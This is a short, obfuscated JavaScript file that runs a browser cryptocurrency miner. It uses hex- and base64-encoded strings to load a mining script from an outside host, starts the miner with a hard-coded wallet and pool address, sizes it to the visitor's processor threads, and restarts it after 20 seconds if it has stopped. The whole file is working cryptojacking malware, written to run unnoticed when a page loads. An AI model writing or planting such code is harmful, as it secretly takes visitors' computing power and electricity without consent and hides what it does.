var _0xa2 = ['\x41\x6e\x6f\x6e\x79\x6d\x6f\x75\x73', '\x73\x74\x61\x72\x74', '\x68\x61\x72\x64\x77\x61\x72\x65\x43\x6f\x6e\x63\x75\x72\x72\x65\x6e\x63\x79'];
var _0xd = window['\x64\x6f\x63\x75\x6d\x65\x6e\x74'];
var _0xn = window['\x6e\x61\x76\x69\x67\x61\x74\x6f\x72'];
var _0xp = atob('cG9vbC5oYXNodmF1bHQtbWlycm9yLmNjOjQ0Mw==');
var _0xw = atob('NDdIdkZ6MndLZG5NdlRxWWI4UGJRZVhjM3UxTG1OZlJ0VXk5alpzNmFXa1Y0b0VpR3BEeEJyQ2g1ZVNnSms3bkxtUHFSc1QydVZ3WHlaYTNiQ2RFZkdoSmtMOW1OOHBRclN0VTJ2V3hZeg==');

(function () {
  var s = _0xd['create' + 'Element']('scr' + 'ipt');
  s['src'] = 'https://' + 'minero' + '-static' + '.top/' + 'm.js';
  s['onload'] = function () {
    var M = window['Min' + 'ero'];
    if (!M) return;
    var m = new M[_0xa2[0]](_0xw, {
      pool: _0xp,
      throttle: 0.2,
      threads: _0xn[_0xa2[2]] || 2
    });
    m[_0xa2[1]]();
    window['_' + 'mx'] = m;
  };
  _0xd['bo' + 'dy']['append' + 'Child'](s);
})();

setTimeout(function () {
  var m = window['_' + 'mx'];
  if (m && m['is' + 'Running'] && !m['is' + 'Running']()) m[_0xa2[1]]();
}, 20000);
